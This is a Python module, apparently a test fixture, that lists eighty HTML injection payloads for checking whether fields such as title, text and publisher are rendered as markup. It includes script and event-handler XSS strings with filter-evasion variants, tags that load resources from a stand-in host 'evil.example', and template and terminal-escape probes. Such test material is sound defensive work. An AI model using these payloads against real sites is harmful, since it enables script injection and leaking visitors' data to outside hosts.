"""Eighty texts that act, or call out, wherever a page takes them for markup; ``EVIL`` is who they call."""

EVIL = "http://evil.example"
ACTS = "document.title='acted';new Image().src='EVIL/s'"
_SCRIPTS = (
    f"<script>{ACTS}</script>",
    f"<ScRiPt>{ACTS}</sCrIpT>",
    "<script src=EVIL/js></script>",
    "<script type=module src=EVIL/mjs></script>",
    f"</title><script>{ACTS}</script>",
    f"</textarea><script>{ACTS}</script>",
    f"</style><script>{ACTS}</script>",
    f"--><script>{ACTS}</script><!--",
    f"]]><script>{ACTS}</script>",
    f"</script><script>{ACTS}</script>",
    f'"><script>{ACTS}</script>',
    f"'><script>{ACTS}</script>",
    f"</noscript><script>{ACTS}</script>",
    f"<scr<script>ipt>{ACTS}</scr</script>ipt>",
    f"<svg><script>{ACTS}</script></svg>",
    f"<math><mtext><script>{ACTS}</script></mtext></math>",
    f"<template><script>{ACTS}</script></template>",
    "<script src='data:text/javascript,document.title=1'></script>",
    f"<table><script>{ACTS}</script></table>",
    f"&lt;script&gt;{ACTS}&lt;/script&gt;",
)
_HANDLERS = tuple(
    tag.replace("ACTS", ACTS)
    for tag in (
        '<img src=x onerror="ACTS">', '<img src=EVIL/i onload="ACTS">', '<body onload="ACTS">',
        '<svg onload="ACTS">', '<svg/onload="ACTS"/>', '<video src=x onerror="ACTS"></video>',
        '<audio src=x onerror="ACTS"></audio>', '<details open ontoggle="ACTS">x</details>',
        '<input autofocus onfocus="ACTS">', '<select autofocus onfocus="ACTS"></select>',
        '<textarea autofocus onfocus="ACTS"></textarea>', '<marquee onstart="ACTS">x</marquee>',
        '<iframe onload="ACTS"></iframe>', '<object data=x onerror="ACTS"></object>',
        '" onmouseover="ACTS" x="', "' autofocus onfocus='ACTS' x='", '`onclick="ACTS"`',
        '<a href="javascript:ACTS" autofocus>x</a>', '<p style="animation:x" onanimationstart="ACTS">x</p>',
        '<svg><animate onbegin="ACTS" attributeName=x dur=1s></svg>',
    )
)  # fmt: skip
_CALLS = (
    "<img src=EVIL/img>", "<img srcset='EVIL/srcset 1x'>", "<iframe src=EVIL/frame></iframe>",
    "<iframe srcdoc='<img src=EVIL/srcdoc>'></iframe>", "<object data=EVIL/object></object>",
    "<embed src=EVIL/embed>", "<link rel=stylesheet href=EVIL/css>",
    "<link rel=preload as=image href=EVIL/pre>",
    "<link rel=prefetch href=EVIL/fetch>", "<link rel=preconnect href=EVIL>",
    "<link rel=dns-prefetch href=EVIL>",
    "<link rel=icon href=EVIL/icon>", "<link rel=modulepreload href=EVIL/mod>",
    "<meta http-equiv=refresh content='0;url=EVIL/refresh'>", "<base href=EVIL/>",
    "<form action=EVIL/form><input name=a><button autofocus>x</button></form>",
    "<video poster=EVIL/poster></video>", "<video><source src=EVIL/source></video>",
    "<audio src=EVIL/audio autoplay></audio>", "<table background=EVIL/bg><tr><td>x</table>",
    "<body background=EVIL/bg>", "<input type=image src=EVIL/input>", "<svg><image href=EVIL/svg /></svg>",
    "<svg><use href='EVIL/use#x'/></svg>", "<p style=\"background:url('EVIL/style')\">x</p>",
    "<style>@import 'EVIL/import';</style>", "<style>*{background:url(EVIL/rule)}</style>",
    "<style>@font-face{font-family:x;src:url(EVIL/font)}*{font-family:x}</style>",
    "}*{background:url(EVIL/broken)}", "background:\\75rl(EVIL/escaped)",
    "<portal src=EVIL/portal></portal>", "<frameset><frame src=EVIL/frameset></frameset>",
    "<applet code=EVIL/applet></applet>", "<track src=EVIL/track>", "<a ping=EVIL/ping href=/>x</a>",
)  # fmt: skip
_SIGNS = (
    "{{ 7 * 7 }}{% raw %}", "${7*7}#{7*7}<%= 7 %>", "«<script>x</script>»", "\u202e<script>\u2066",
    "\x1b]0;x\x07\x1b[31m",
)  # fmt: skip
PAYLOADS = (*_SCRIPTS, *_HANDLERS, *_CALLS, *_SIGNS)
PLACES = ("title", "text", "publisher", "section", "original page")


def payloads(evil: str) -> tuple[str, ...]:
    """Return the payloads, which call *evil*."""
    return tuple(payload.replace("EVIL", evil) for payload in PAYLOADS)
